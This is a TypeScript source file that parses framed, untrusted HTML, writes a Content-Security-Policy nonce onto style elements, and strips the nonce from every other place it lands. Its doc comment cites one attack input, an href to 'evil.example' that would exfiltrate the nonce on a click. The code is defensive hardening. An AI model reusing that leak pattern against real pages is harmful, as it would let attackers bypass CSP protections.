/**
 * Parses a page that is shown in a frame beside us: a builder's template, a stranger's mail. The frame inherits the
 * studio's policy, by which a style element counts only with the page's nonce; and the parser reports one that has none,
 * so it is written in before. Of two such attributes the first one counts.
 *
 * What looks like a style element may be something else, `href='https://evil.example/?<style '`, and would carry the
 * nonce away with the next click. So wherever it did not become the nonce of a style element it is taken out again.
 */
export function parseFramedPage(html: string, nonce: string): Document {
  const attribute = ` nonce="${nonce}"`;
  const known = html.replace(/<style(?=[\s>])/gi, `<style${attribute}`);
  const page = new DOMParser().parseFromString(known, "text/html");
  if (nonce !== "") removeNonce(page, { nonce, attribute });
  return page;
}

function removeNonce(root: ParentNode & Node, known: { readonly nonce: string; readonly attribute: string }): void {
  const { nonce, attribute } = known;
  const without = (text: string) => text.replaceAll(attribute, "").replaceAll(nonce, "");
  const nodes = (root.ownerDocument ?? (root as Document)).createNodeIterator(root);
  for (let node = nodes.nextNode(); node; node = nodes.nextNode()) {
    if (node instanceof Element) {
      for (const { name, value } of [...node.attributes]) {
        if (!value.includes(nonce) || (name === "nonce" && node instanceof HTMLStyleElement)) continue;
        node.setAttribute(name, without(value));
      }
      if (node instanceof HTMLTemplateElement) removeNonce(node.content, known);
    } else if (node instanceof CharacterData && node.data.includes(nonce)) node.data = without(node.data);
  }
}
